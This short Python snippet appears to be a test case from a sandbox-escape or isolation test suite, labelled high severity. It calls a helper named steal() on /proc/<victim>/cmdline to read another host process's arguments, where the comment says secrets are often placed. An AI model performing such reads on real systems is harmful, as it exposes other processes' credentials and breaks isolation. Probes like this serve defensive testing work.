# Reads the arguments of a process of the host, where people put secrets.
# severity: high
# escape: secret
from raw import A, steal, tried

steal(f"/proc/{A.victim}/cmdline")
tried()
